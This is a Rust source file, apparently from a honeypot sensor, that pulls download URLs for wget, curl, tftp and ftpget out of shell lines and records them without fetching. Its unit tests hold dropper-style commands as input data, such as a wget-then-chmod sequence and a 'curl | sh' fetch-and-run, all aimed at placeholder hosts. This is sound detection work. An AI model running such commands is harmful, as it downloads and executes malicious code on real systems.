//! The URLs a shell line would download: every `wget`, `curl`, `tftp` and `ftpget` (also as
//! `busybox wget …`) becomes a "download offered" event.
//!
//! WHY record instead of fetch: the sensor never connects out (a home network must never talk
//! to malware hosts); the admin may fetch offered URLs itself, opt-in. Pure, bounded by the
//! line (at most 64 commands of 64 words each are looked at).

/// The URLs a shell line would download, with the tool that would do it.
pub fn extract_downloads(line: &str) -> Vec<(String, String)> {
    let mut out = Vec::new();
    for cmd in line.split([';', '|', '&', '\n']).take(64) {
        let words: Vec<&str> = cmd.split_whitespace().take(64).collect();
        let Some(pos) = words
            .iter()
            .position(|w| matches!(w.rsplit('/').next(), Some("wget" | "curl" | "tftp" | "ftpget" | "busybox")))
        else {
            continue;
        };
        let mut tool = words[pos].rsplit('/').next().unwrap_or("").to_string();
        let mut args = &words[pos + 1..];
        if tool == "busybox" {
            let Some(t) = args.first() else { continue };
            tool = t.to_string();
            args = &args[1..];
        }
        match tool.as_str() {
            "wget" | "curl" => {
                for a in args {
                    if a.contains("://") {
                        out.push((tool.clone(), a.trim_matches(['"', '\'']).to_string()));
                    }
                }
            }
            "tftp" => {
                // tftp -g -r FILE HOST [PORT]
                let file = args.windows(2).find(|w| w[0] == "-r").map(|w| w[1]);
                let host = args.iter().rev().find(|a| !a.starts_with('-') && Some(**a) != file);
                if let (Some(f), Some(h)) = (file, host) {
                    out.push((tool.clone(), format!("tftp://{h}/{f}")));
                }
            }
            "ftpget" => {
                // ftpget [-u U -p P] HOST LOCAL REMOTE
                let plain: Vec<&&str> = args.iter().filter(|a| !a.starts_with('-')).collect();
                if plain.len() >= 3 {
                    let n = plain.len();
                    out.push((tool.clone(), format!("ftp://{}/{}", plain[n - 3], plain[n - 1])));
                }
            }
            _ => {}
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn downloads_from_droppers() {
        let d = extract_downloads("cd /tmp; wget http://203.0.113.5/bins/x86 -O /tmp/x; chmod +x x");
        assert_eq!(d, vec![("wget".into(), "http://203.0.113.5/bins/x86".into())]);
        let d = extract_downloads("/bin/busybox tftp -g -r mips 198.51.100.7");
        assert_eq!(d, vec![("tftp".into(), "tftp://198.51.100.7/mips".into())]);
        let d = extract_downloads("curl -s 'http://a.example/x.sh' | sh");
        assert_eq!(d, vec![("curl".into(), "http://a.example/x.sh".into())]);
        let d = extract_downloads("ftpget -u a -p b 192.0.2.1 x.bin x.bin");
        assert_eq!(d, vec![("ftpget".into(), "ftp://192.0.2.1/x.bin".into())]);
    }

    #[test]
    fn hostile_input_never_panics() {
        for b in crate::protocols::hostile::random_inputs(0xd0e1_0ad5_0000_0001, 20_000, 200, true) {
            let _ = extract_downloads(&String::from_utf8_lossy(&b));
        }
    }
}
